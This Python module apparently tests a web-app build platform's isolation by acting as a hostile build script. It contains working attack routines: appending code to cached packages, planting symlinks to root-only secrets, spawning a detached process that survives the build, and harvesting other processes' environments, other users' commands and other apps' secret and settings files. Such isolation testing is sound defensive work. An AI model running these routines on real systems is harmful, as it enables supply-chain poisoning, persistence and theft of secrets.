"""The attacks of a build script. They return what they found."""

from __future__ import annotations

import glob
import os
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

SECRET = "/opt/canary/secret.py"
SHARED = ("/dev/shm", "/dev/mqueue", "/run/lock", "/tmp", "/var/tmp")


def attack() -> dict[str, object]:
    """Attack."""
    poison_downloads()
    if Path(__file__).with_name("plants").exists():
        plant_links()
    outlive_the_build()
    return {
        "rights": Path("/proc/self/status").read_text(),
        "secrets": environments_with("CANARY-token"),
        "others": commands_of_others(),
        "data": list_data(),
        "settings": list_settings(),
        "written": [path for path in SHARED if write(f"{path}/canary_of_build")],
    }


def poison_downloads() -> None:
    """Change a package where later builds could take it from."""
    homes = {os.environ["HOME"], *glob.glob("/var/cache/wsgi/*")}
    for home in homes:
        for path in Path(home).rglob("itsdangerous/__init__.py"):
            with suppress(OSError):
                path.write_text(path.read_text() + "\nPOISONED = True\n")


def plant_links() -> None:
    """Create links to files that only root may read, where root may use them as code."""
    for top in glob.glob("/srv/wsgi/evil/*/*/*/"):
        with suppress(OSError):
            os.symlink(SECRET, f"{top}/planted.py")


def outlive_the_build() -> None:
    """Start a process that detaches from the build."""
    survivor = Path(__file__).with_name("survivor.py").read_text()
    subprocess.Popen(
        [sys.executable, "-c", survivor],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def environments_with(text: str) -> list[str]:
    """Return the processes with ``text`` in their environment variables."""
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        with suppress(OSError):
            if text.encode() in Path(path).read_bytes():
                found.append(path)
    return found


def commands_of_others() -> list[str]:
    """Return the commands of the processes of other users."""
    found = []
    for path in map(Path, glob.glob("/proc/[0-9]*")):
        with suppress(OSError):
            if path.stat().st_uid != os.getuid():
                found.append((path / "cmdline").read_text())
    return found


def list_data() -> list[str]:
    """Return the files of the app's data that can be written."""
    return [
        path
        for path in glob.glob("/var/lib/wsgi/evil/**/settings.ini", recursive=True)
        if os.access(path, os.W_OK)
    ]


def list_settings() -> list[str]:
    """Return the readable files of releases and other apps, except the sources of this build."""
    package = Path(os.environ["PYTHONPATH"]).parent
    settings = ("environment_variables", "gunicorn.conf.py", "secrets", "setup")
    parts = ("files", "diagnosis.key", *settings)
    found = [package / part for part in parts] + list(Path("/srv/wsgi").glob("*/releases/*"))
    return [str(path) for path in found if path != package and os.access(path, os.R_OK)]


def write(path: str) -> bool:
    """Return whether a file can be made."""
    with suppress(OSError):
        Path(path).touch()
        return True
    return False
